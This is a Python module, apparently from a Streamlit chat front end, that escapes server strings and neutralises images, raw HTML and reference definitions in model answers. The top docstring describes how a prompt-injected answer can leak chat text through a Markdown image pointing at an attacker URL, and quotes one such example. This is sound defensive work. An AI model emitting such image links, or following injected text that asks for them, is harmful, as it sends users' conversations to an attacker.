"""Text that came from a server or a model, made safe to render as Markdown: it can format itself,
but it can never make the browser fetch anything.

A Markdown image (`![x](http://attacker/?q=<chat text>)`) in a prompt-injected answer would send
data out the moment it is drawn, and a model name or a version string can carry one too. Two uses:
- `plain(text)`: a server's string (names, versions, families, capabilities, error messages)
  shown literally: every Markdown character escaped, so nothing in it formats or loads.
- `model_markdown(text)`: a model's answer keeps its lists, code, bold and links (a link loads only
  when clicked), but images become a visible placeholder with their URL as code, and raw HTML is
  shown as text. Code spans and fenced code blocks are left as they are: they never render.
"""
from __future__ import annotations

import re

# Every character with a meaning in CommonMark, GitHub tables, or Streamlit's own directives
# (`:red[..]`, `:material/icon:`, `$latex$`).
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~<>:$&])")
_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})")
_INLINE_CODE = re.compile(r"(`+)(.+?)(?<!`)\1(?!`)", re.S)
# ![alt](url "title") and ![alt][ref] / ![ref][] / ![ref]: each becomes placeholder text
_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*)\]\s*(?:\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)]*[\"')])?\s*\)|\[[^\]]*\])?")
_REFERENCE_DEFINITION = re.compile(r"^ {0,3}\[[^\]]+\]:\s*\S+", re.M)
PLACEHOLDER = "🖼"


def plain(text: object) -> str:
    """`text` shown exactly as it is, inside any Markdown (st.markdown, st.error, st.metric...)."""
    return _MARKDOWN_SPECIAL.sub(r"\\\1", str(text)).replace("\n", " ")


def _image_text(match: re.Match) -> str:
    alt, url = match.group(1).strip(), (match.group(2) or "").strip()
    shown = f"{PLACEHOLDER} {plain(alt)}" if alt else PLACEHOLDER
    return f"{shown} `{url.replace('`', '')}`" if url else shown


def _outside_code(text: str) -> str:
    """Images and HTML neutralised in prose; inline code spans kept verbatim."""
    pieces, last = [], 0
    for match in _INLINE_CODE.finditer(text):
        pieces.append(_prose(text[last:match.start()]))
        pieces.append(match.group(0))
        last = match.end()
    pieces.append(_prose(text[last:]))
    return "".join(pieces)


def _prose(text: str) -> str:
    text = _IMAGE.sub(_image_text, text)
    # Any image syntax left (deeper nesting...) becomes a link at most. Entities, not backslashes:
    # the text's own backslash before ours would cancel it (`\![` -> `\\![`).
    text = text.replace("![", "&#33;[")
    # A reference definition could still feed an image written in a form the pattern missed:
    # shown as text, it defines nothing.
    text = _REFERENCE_DEFINITION.sub(lambda m: "\\" + m.group(0).lstrip(), text)
    return text.replace("<", "&lt;")  # raw HTML and autolinks shown as text


def model_markdown(text: str) -> str:
    """A model's answer as Markdown that keeps its formatting but loads nothing."""
    out, fence, block = [], None, []
    for line in str(text).splitlines(keepends=True):
        opening = _FENCE.match(line)
        if fence is None and opening:
            if block:
                out.append(_outside_code("".join(block)))
                block = []
            fence = opening.group(2)[0] * len(opening.group(2))
            out.append(line)
        elif fence is not None:
            out.append(line)
            closing = _FENCE.match(line)
            if closing and closing.group(2).startswith(fence) and not line.strip(" `~\r\n"):
                fence = None
        else:
            block.append(line)
    if block:
        out.append(_outside_code("".join(block)))
    return "".join(out)
